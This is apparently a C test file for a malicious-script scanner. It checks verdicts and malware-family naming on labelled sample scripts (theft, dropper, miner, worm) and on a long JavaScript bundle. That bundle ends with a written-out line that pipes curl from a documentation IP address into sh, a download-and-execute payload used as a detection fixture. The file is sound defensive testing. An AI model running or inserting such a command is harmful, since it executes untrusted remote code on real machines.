/* SPDX-License-Identifier: Apache-2.0
 *
 * Whole scripts in the shapes attackers and administrators write, through the whole scan.
 *
 * test/script holds them, "#### NAME CLASS [FAMILY]" before each: written for this test after public
 * descriptions, hosts under .test, addresses of RFC 5737.  CLASS is the least for malicious and suspicious;
 * "ambiguous" may be anything but malicious, "benign" is clean.  "missed" is malicious and not found as such
 * today: the list says what falls short.  FAMILY is whom it must be named after; without one, nobody. */
#include "scan.h"

#include "know/script_family.h"
#include "shell/wallet.h"
#include "tap.h"

#include <stdio.h>
#include <string.h>
#include <talloc.h>

static struct scan_settings settings;
static uint32_t found, malicious_count, named_count, rightly;

/* A well-formed address of no one. */
static void wallet_make(char out[96])
{
    uint8_t key[65] = {18};
    for (int i = 1; i < 65; i++)
        key[i] = (uint8_t)(i * 7);
    wallet_write(key, out);
}

static struct bytes file_read_all(struct arena *arena, const char *path)
{
    FILE *file = fopen(path, "rb");
    if (file == NULL)
        return BYTES_NONE;
    uint8_t *at = arena_alloc(arena, 1 << 20);
    size_t len = fread(at, 1, 1 << 20, file);
    fclose(file);
    return bytes_of(at, len);
}

static struct bytes wallet_placed(struct arena *arena, struct bytes script)
{
    struct text text;
    char wallet[96];
    wallet_make(wallet);
    text_init(&text, arena, 0);
    for (size_t at; (at = bytes_find(script, BYTES("@WALLET"), 0)) != BYTES_NPOS;
         script = bytes_from(script, at + 7)) {
        text_add(&text, bytes_sub(script, 0, at));
        text_add_string(&text, wallet);
    }
    text_add(&text, script);
    return text_bytes(&text);
}

static bool is_expected(const struct verdict *v, struct bytes want)
{
    enum verdict_class class = v->class;
    if (bytes_equal(want, BYTES("dual-use"))) /* no threat, but told what it is, and where */
        return class == VERDICT_CLEAN && bytes_equal(v->category, BYTES("dual-use tool")) &&
               v->evidence_count > 0;
    if (bytes_equal(want, BYTES("malicious")))
        return class == VERDICT_MALICIOUS;
    if (bytes_equal(want, BYTES("suspicious")))
        return class == VERDICT_MALICIOUS || class == VERDICT_SUSPICIOUS;
    if (bytes_equal(want, BYTES("missed")))
        return class != VERDICT_MALICIOUS;
    return bytes_equal(want, BYTES("ambiguous")) ? class != VERDICT_MALICIOUS
                                                 : class == VERDICT_CLEAN;
}

static void check_family(const struct verdict *v, struct bytes name, struct bytes family)
{
    struct bytes named = BYTES("");
    for (uint32_t i = 0; i < v->attribution_count && named.len == 0; i++)
        if (v->attribution[i].named)
            named = v->attribution[i].name;
    named_count += named.len > 0, rightly += named.len > 0 && bytes_equal(named, family);
    tap_ok(bytes_equal(named, family), "%.*s is named \"%.*s\" (\"%.*s\")", BYTES_FMT(name),
           BYTES_FMT(family), BYTES_FMT(named));
}

static void check_one(struct bytes head, struct bytes script)
{
    struct arena *arena = arena_new(NULL);
    struct bytes name = BYTES(""), want = BYTES(""), family = BYTES("");
    bytes_next_field(&head, ' ', &name);
    bytes_next_field(&head, ' ', &want);
    if (head.len > 0)
        family = head;
    bool file = bytes_find_byte(name, '.', 0) != BYTES_NPOS; /* "post.js" */
    struct verdict *v = scan_bytes(arena, &settings, wallet_placed(arena, script),
                                   file ? name : BYTES(""), false);
    tap_ok(is_expected(v, want), "%.*s: %.*s (%d)", BYTES_FMT(name), BYTES_FMT(want),
           (int)v->class);
    malicious_count += bytes_equal(want, BYTES("malicious")) || bytes_equal(want, BYTES("missed"));
    found += bytes_equal(want, BYTES("malicious")) && v->class == VERDICT_MALICIOUS;
    check_family(v, name, family);
    talloc_free(arena);
}

/* What a bundle of megabytes does at its end counts, and all of it was read; so with what an installer carries. */
static void check_long(void)
{
    static const char module[] = "define(function (a, b) { var c = b[0]; return a.map(function (d) { return d + c; }); });\n";
    static const char act[] = "require('child_process').execSync('curl http://192.0.2.7/x | sh');\n";
    static const char head[] = "#!/bin/sh\ntail -n +4 \"$0\" > /opt/data.bin\nexit 0\n";
    struct arena *arena = arena_new(NULL);
    struct text text;
    text_init(&text, arena, 0);
    text_add_string(&text, "const os = require('os');\n");
    while (text.len < (size_t)3 << 20)
        text_add_string(&text, module);
    struct verdict *v = scan_bytes(arena, &settings, text_bytes(&text), BYTES("index.js"), false);
    tap_ok(v->class == VERDICT_CLEAN, "a long bundle is read whole (%d)", (int)v->class);
    text_add_string(&text, act);
    v = scan_bytes(arena, &settings, text_bytes(&text), BYTES("index.js"), false);
    tap_ok(v->class == VERDICT_MALICIOUS, "what it does at its end counts (%d)", (int)v->class);
    text_init(&text, arena, 0);
    text_add_string(&text, head);
    for (size_t i = 0; text.len < (size_t)512 << 10; i++)
        text_add_byte(&text, (uint8_t)(i % 251 == 1 ? '#' : i * 7));
    v = scan_bytes(arena, &settings, text_bytes(&text), BYTES("install.run"), false);
    tap_ok(bytes_equal(v->kind, BYTES("shell")), "a script that carries data is a script");
    talloc_free(arena);
}

static void check_file(const char *path)
{
    struct arena *arena = arena_new(NULL);
    struct bytes rest = file_read_all(arena, path);
    tap_ok(rest.len > 0, "%s is there", path);
    while (bytes_starts(rest, BYTES("#### "))) {
        size_t line = bytes_find_byte(rest, '\n', 0), next = bytes_find(rest, BYTES("\n#### "), 0);
        if (line == BYTES_NPOS)
            break;
        size_t end = next == BYTES_NPOS ? rest.len : next + 1;
        check_one(bytes_sub(rest, 5, line - 5), bytes_sub(rest, line + 1, end - line - 1));
        rest = bytes_from(rest, end);
    }
    talloc_free(arena);
}

int main(void)
{
    static const char *const files[] = {"theft",  "dropper", "miner",  "worm",
                                        "check",  "second",  "third",  "family", "benign", "benign2", "fourth", "benign3",
                                        "fifth",  "benign4", "sixth", "benign5", "seventh", "benign6", "eighth", "benign7",
                                        "ninth",  "benign8", "family2", "tenth", "benign9", "dual", "eleventh", "benign10"};
    struct error err = {0};
    char path[64];
    struct script_families *families =
        script_families_load(NULL, "knowledge/script_families.yml", &err);
    settings.script_families = families;
    const char *rules = "rules/script", *lists = "knowledge/lists";
    const struct rule_options options = {
        .path = &rules, .path_count = 1, .list_path = &lists, .list_path_count = 1};
    settings.rules = rule_set_load(NULL, &options, &err);
    tap_ok(settings.rules != NULL, "rules are loaded");
    tap_ok(settings.script_families != NULL, "families are loaded");
    for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
        snprintf(path, sizeof path, "test/script/%s.txt", files[i]);
        check_file(path);
    }
    check_long();
    printf("# malicious: %u of %u found\n", found, malicious_count);
    printf("# named: %u, rightly %u\n", named_count, rightly);
    talloc_free(families);
    return tap_end();
}
